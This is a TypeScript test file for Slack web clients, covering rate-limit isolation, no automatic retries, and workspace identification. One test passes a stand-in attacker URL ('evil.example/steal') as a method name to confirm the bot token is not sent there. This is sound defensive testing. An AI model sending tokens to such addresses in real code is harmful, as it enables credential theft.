import { WebAPIRateLimitedError } from '@slack/web-api';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { identifyWorkspace } from '../../src/slack/identify-workspace.ts';
import { slackErrorCode } from '../../src/slack/slack-errors.ts';
import { startWorkspace, type Workspace } from '../support/workspace/workspace.ts';
import { clientsOf } from './clients.ts';

let workspace: Workspace;
beforeEach(async () => {
  workspace = await startWorkspace();
});
afterEach(() => workspace.stop());

describe('the two web clients', () => {
  it('when a message is throttled, a modal does not wait for it', async () => {
    const { interactive, bulk } = clientsOf(workspace);
    workspace.limits.next('chat.postMessage', { retryAfter: 30 });
    const started = performance.now();
    const throttled = bulk.chat.postMessage({ channel: 'C1', text: 'x' });
    await expect(throttled).rejects.toBeInstanceOf(WebAPIRateLimitedError);
    await interactive.auth.test();
    await bulk.auth.test();
    expect(performance.now() - started).toBeLessThan(25_000);
  });

  it('when an answer is lost, does not send again by itself: that would post twice', async () => {
    const { bulk } = clientsOf(workspace);
    const channel = workspace.channel('general', { botIsMember: true });
    workspace.faults.lose('chat.postMessage');
    await expect(bulk.chat.postMessage({ channel: channel.id, text: 'x' })).rejects.toThrow();
    expect(workspace.callsOf('chat.postMessage')).toHaveLength(1);
  });

  it('when a method name is an address, the token does not travel there', async () => {
    const { interactive } = clientsOf(workspace);
    await interactive.apiCall('https://evil.example/steal').catch(() => undefined);
    expect(workspace.calls.map(({ method }) => method)).toEqual([expect.stringContaining('evil.example')]);
  });
});

describe('identifyWorkspace', () => {
  it('when the token counts, tells whose it is', async () => {
    expect(await identifyWorkspace(clientsOf(workspace).bulk)).toMatchObject({
      teamId: workspace.team.id,
      teamName: workspace.team.name,
      botUserId: workspace.botUserId,
    });
  });

  it('when the token does not count, fails with the code of Slack', async () => {
    const { bulk } = clientsOf({ token: 'xoxb-wrong', apiUrl: workspace.apiUrl });
    const error = await identifyWorkspace(bulk).catch((reason: unknown) => reason);
    expect(slackErrorCode(error)).toBe('invalid_auth');
  });
});
